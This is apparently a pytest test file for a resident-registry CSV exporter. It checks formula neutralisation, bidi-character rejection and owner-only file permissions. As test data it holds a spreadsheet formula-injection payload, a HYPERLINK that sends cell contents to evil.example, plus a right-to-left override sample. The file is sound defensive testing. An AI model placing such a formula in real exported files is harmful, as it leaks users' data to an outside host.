"""Registry files as a spreadsheet opens them: no formulas, no bidi tricks, owner-only files."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sensord.cli.registry import write_private
from sensord.core.registry.cells import text
from sensord.core.registry.csvfiles import FORMULA_STARTS, neutralise, parse_file, render, restore
from sensord.core.registry.rows import ADDRESSES, RESIDENTS, Address, Resident
from sensord.errors import CellError

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_formula_in_a_name_is_written_quoted_and_read_back_verbatim() -> None:
    resident = Resident("R-1", "H-1", HOSTILE, "13812341234", ("elderly",))
    written = render(RESIDENTS, [resident])
    (_, line) = written.splitlines()
    assert line.split(",", 2)[2].startswith("\"'=HYPERLINK(")
    parsed = parse_file(RESIDENTS, written)
    assert parsed.errors == []
    assert list(parsed.rows.values()) == [resident]
    assert render(RESIDENTS, parsed.rows.values()) == written


def test_a_negative_floor_and_a_dash_id_round_trip() -> None:
    basement = Address("-A1", "stairwell", "BG-1", "C-1", "B-1", "+1 @stairs", -2)
    written = render(ADDRESSES, [basement])
    assert written.splitlines()[1] == "'-A1,stairwell,BG-1,C-1,B-1,'+1 @stairs,'-2"
    parsed = parse_file(ADDRESSES, written)
    assert parsed.errors == [] and list(parsed.rows.values()) == [basement]


@pytest.mark.parametrize("first", sorted(FORMULA_STARTS))
def test_every_formula_start_is_neutralised(first: str) -> None:
    assert neutralise(first + "1") == "'" + first + "1"


@given(st.text(max_size=20))
def test_restore_undoes_neutralise_and_nothing_neutralised_starts_a_formula(cell: str) -> None:
    safe = neutralise(cell)
    assert restore(safe) == cell
    assert safe[:1] not in FORMULA_STARTS


@given(
    name=st.text("=+-@'\"张明 ,;A1()", min_size=1, max_size=30).filter(
        lambda name: name == name.strip()
    ),
    floor=st.integers(-10, 200),
)
def test_any_name_and_floor_export_and_import_byte_identically(name: str, floor: int) -> None:
    rows = [
        Resident("R-1", "H-1", name, None, ()),
        Resident("-R-2", "H-1", "=" + name, "021-12345678", ("elderly", "living_alone")),
    ]
    written = render(RESIDENTS, rows)
    cells = [cell for record in csv.reader(io.StringIO(written)) for cell in record]
    assert not any(cell[:1] in FORMULA_STARTS for cell in cells)
    parsed = parse_file(RESIDENTS, written)
    assert parsed.errors == [] and sorted(parsed.rows.values()) == sorted(rows)
    assert render(RESIDENTS, parsed.rows.values()) == written
    place = Address("A-1", "dwelling", "BG-1", "C-1", "B-1", name, floor)
    again = parse_file(ADDRESSES, render(ADDRESSES, [place]))
    assert list(again.rows.values()) == [place]


def test_a_hand_written_apostrophe_is_kept() -> None:
    assert restore("'t Hooft") == "'t Hooft"
    assert restore("''") == "'"
    assert neutralise("'t Hooft") == "''t Hooft"


@pytest.mark.parametrize(
    "char", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
             "\u2069", "\u200e", "\u200f"],
)  # fmt: skip
def test_bidi_controls_are_refused_naming_the_code_point(char: str) -> None:
    with pytest.raises(CellError, match=f"bidirectional control characters \\(U\\+{ord(char):04X}"):
        text(f"张{char}明")


def test_a_bidi_name_is_reported_per_cell_without_quoting_it() -> None:
    written = "resident_id,household_id,name,phone,tags\nR-1,H-1,\u202eevil,,\n"
    parsed = parse_file(RESIDENTS, written)
    assert [str(error) for error in parsed.errors] == [
        "residents.csv:2: name: must not contain bidirectional control characters (U+202E)"
    ]


def test_export_files_are_created_owner_only(tmp_path: Path) -> None:
    path = tmp_path / ".residents.csv.tmp"
    path.write_text("left over by a killed export")
    path.chmod(0o644)
    write_private(path, b"names and phones")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_bytes() == b"names and phones"
